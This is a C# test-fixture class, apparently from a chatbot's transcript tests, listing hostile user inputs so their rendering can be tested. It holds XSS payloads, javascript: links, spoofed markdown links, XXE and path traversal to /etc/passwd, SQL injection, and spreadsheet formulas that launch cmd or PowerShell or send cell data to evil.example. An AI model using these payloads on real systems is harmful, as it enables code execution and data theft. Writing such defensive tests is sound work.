namespace HcsmChatBot.Facilitation.Tests.Transcripts;

/// <summary>What somebody might write, call themselves or attach so that it does something where a transcript is read.</summary>
internal static class HostileContents
{
    private const string Backtick = "`";

    internal static IReadOnlyList<string> All { get; } =
        [.. Elements.Concat(Links).Concat(Marks).Concat(Formulas).Concat(Controls).Concat(Directions).Concat(Mentions).Concat(Extremes).Distinct()];

    private static IEnumerable<string> Elements =>
    [
        .. from tag in new[] { "script", "SCRIPT", "ScRiPt", "svg", "math", "iframe", "object", "embed", "style", "link", "base", "meta", "form", "template", "noscript", "title", "textarea", "plaintext", "xmp" }
           select $"<{tag} src=//evil.example/x.js href=javascript:alert(1)>alert(1)</{tag}>",
        .. from handler in new[] { "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle open", "onanimationstart", "onpointerenter" }
           from element in new[] { "img src=x", "svg", "details", "body" }
           select $"<{element} {handler}=alert(1)>",
        .. from end in new[] { "</p>", "</article>", "</main>", "</title>", "</style>", "</bdi>", "</h1>", "</section></main></body></html>", "</textarea>", "]]>", "-->", "--!>", "*/", "}" }
           select $"{end}<script>alert(1)</script>",
        .. from quote in new[] { "\"", "'", Backtick, "&quot;", "&#34;", "\\\"" }
           select $"{quote} onmouseover={quote}alert(1){quote} x={quote}",
        "<!-- <![CDATA[ <script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><?php echo 1 ?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;script&#x3E;", "&amp;lt;b&amp;gt;", "&nbsp;&copy;&notanentity;&", "<\0script>alert(1)</script>", "<scr\0ipt>",
        "<b>bold</b><i>x", "<a href=https://evil.example>your hospital</a>", "<img src=https://evil.example/pixel.gif>", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", "\u003cscript\u003e", "\\u003cscript\\u003e", "＜script＞alert(1)＜/script＞",
    ];

    private static IEnumerable<string> Links =>
    [
        .. from scheme in new[]
           {
               "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript\0:", "javascript&colon;", "&#106;avascript:", "&#x6A&#x61vascript:",
               "data:text/html,", "DATA:text/html;base64,PHNjcmlwdD4=,", "vbscript:", "file:///", "blob:", "feed:javascript:", "jar:", "view-source:", "mailto:x@", "tel:", "ftp://", "xmpp:", "discord://", "//",
           }
           from link in new[] { "{0}alert(1)", "[your results]({0}alert(1))", "<{0}alert(1)>" }
           select link.Replace("{0}", scheme, StringComparison.Ordinal),
        "[https://hospital.example](https://evil.example)", "[a]( <https://evil.example> 'title' )", "[a][1]\n\n[1]: https://evil.example 'x'", "![pixel](https://evil.example/p.gif)", "[![x](https://evil.example/i)](https://evil.example)",
        "https://hospital.example@evil.example/", "https://hospital.example\\@evil.example/", "https://user:pass@evil.example", "https://example.org/\"onmouseover=\"alert(1)", "https://example.org/'><script>alert(1)</script>",
        "<https://example.org/\"><script>alert(1)</script>>", "https://example.org/)](javascript:alert(1)", "https://example.org/`code`*bold*_it_", "https://example.org/<b>", "https://example.org/\u202Egnp.exe",
        "HTTPS://EXAMPLE.ORG/%0d%0aSet-Cookie:x", "http://127.0.0.1:5080/ http://0x7f.1/", "https://xn--80ak6aa92e.com/ https://аррӏе.com/", "www.evil.example", "WWW.evil.example/x_y", "evil@evil.example", "https://", "http:///x", "https://example.org/|a|b|",
        "<https://example.org|label>", "https:/\\evil.example", "https://example.org/#[x](y)", "https://example.org?a=1&b=2&lt=3",
    ];

    private static IEnumerable<string> Marks =>
    [
        "# heading", "###### heading", "#", "text\n===", "text\n---", "***", "---", "___", "- - -", "> quotation", ">> two", "- item", "* item", "+ item", "1. item", "1) item", "a. item", "iv. item", "123456789. item", "- [x] done",
        "    indented code", "\tindented code", "line\n\n    code after a line", "```\nfence", "~~~ html\nfence", "````\n```", Backtick + "code" + Backtick, "``a`b``", "```mermaid\ngraph\n```", "```math\nx\n```",
        "*em* **strong** ***both***", "_em_ __strong__", "~~gone~~ ~sub~ ^sup^ ++ins++ ==mark==", "\"\"cited\"\"", "||spoiler||", "| a | b |\n|---|---|\n| 1 | 2 |", "a | b\n- | -\n1 | 2", "+---+\n| a |\n+---+", ":---\n|x", "-|-",
        "[^1]\n\n[^1]: footnote", "*[HTML]: abbreviation\nHTML", "Term\n: definition", ":::warning\ntext\n:::", "{#id .class onclick=alert(1)}", "# x {onclick=alert(1)}", "$$x^2$$ $x$", "^^^\nfigure\n^^^ caption", "^^ footer", ":smile: :-) :/", "[[wiki]]", "[TOC]", "[>!NOTE]", "> [!WARNING]",
        "---\ntitle: front matter\n---", "+++\nx = 1\n+++", "line\\\nline", "line  \nline", "ends in a backslash\\", "\\", "\\\\", "\\*", "<!-- comment\n-->", "<!--", "<?", "<!X", "<![CDATA[", "<pre>\n\n<script>", "<br/>", "&#42;em&#42;", "!", "![", "](", "[a]:", "[a]: <b>", "<a", "<a\nhref=x>",
        "\u00A0\u00A0- item", "\u2003# heading", "\u3000> quotation", "\r# heading", "a\r\n# heading", "a\u2028# heading", "a\u0085# heading", "a\v# heading", "a\f- item", "\u200B# heading",
    ];

    private static IEnumerable<string> Formulas =>
    [
        .. from before in new[] { "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00A0", "\u200B", "\uFEFF", "\u202E", "\"", "; ", "x;", "x\t", "x\n", "x\r\n \t", "x;\"", "x\t \"\"", "x\n\" " }
           from formula in new[] { "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1＋1", "＋1", "－1", "＠SUM(1)" }
           select before + formula,
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"results\")", "=WEBSERVICE(\"https://evil.example\")", "=IMPORTXML(CONCAT(\"//evil.example?\",A2:E2),\"//a/a10\")",
        "=cmd|'/C powershell IEX(wget evil.example/x.exe)'!A0", "\",\"=1+1\",\"", "\"\r\n\"T1\",\"=1", "a,b;c\td", "\"", "\"\"", "\"\"\"", "sep=;", "ID;PWXL", "'=1+1", "=", "+", "-", "@",
    ];

    private static IEnumerable<string> Controls =>
    [
        .. from code in Enumerable.Range(0, 32).Concat(Enumerable.Range(0x7F, 0x21)) select $"a{(char)code}b",
        .. from code in Enumerable.Range(0, 32).Concat(Enumerable.Range(0x7F, 0x21)) select $"{(char)code}",
        "\e[2J\e[1;1H", "\e]0;title\a", "\e]8;;https://evil.example\e\\results\e]8;;\e\\", "\u009B31m", "\e[31mred\e[0m", "\b\b\b\bover", "x\rforged line", "\x1A", "\uFFFE\uFFFF",
    ];

    private static IEnumerable<string> Directions =>
    [
        .. from code in new[] { 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C } select $"invoice{(char)code}gnp.exe",
        "\u202E\u202E\u202E", "\u2067\u2066\u2069\u2069\u2069", "شكراً <b>لك</b> (1)", "‏עברית # - 1.",
    ];

    private static IEnumerable<string> Mentions =>
        ["@everyone", "@here", "<@1>", "<@!1>", "<@&1>", "<#1>", "<@99999999999999999999>", "<@1\"><script>alert(1)</script>", string.Concat(Enumerable.Repeat("@everyone <@1> <@&2> ", 100)), "<t:1441213200:F>", "<t:99999999999999:R>",
         "<:emoji:1>", "<a:b:1>", "</chat end:1>", "@octocat #1 org/repo#2 !3", "<!channel> <!everyone>"];

    private static IEnumerable<string> Extremes =>
    [
        "\uD800", "\uDC00", "a\uD83Db", "\uDE00\uD83D", "=\uD800", "<\uDFFFscript>", "\uFEFF", "\uFEFFa", "a\uFEFF", "\u2028", "\u2029", "a\u2028b\u2029c", "\u200B", "\u00AD", "\u2060", "\u180E", "\U000E0001\U000E0061",
        new('x', 10_000), new('<', 500), new('[', 500), new('*', 500), new('>', 500), new('`', 500), new('\n', 500), new(' ', 500), new('\\', 501), new('\t', 500), "e" + new string('\u0301', 500), "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́",
        string.Concat(Enumerable.Repeat("😀", 200)), "👩‍⚕️👨🏽‍🦽", string.Join('\n', Enumerable.Repeat("> - 1. # x", 50)), "", "NaN", "null", "undefined", "true", "\\u0000", "\\", "\"}],\"x\":[{", "CON", "../../etc/passwd", "%s%n%x", "' OR 1=1 --",
    ];
}
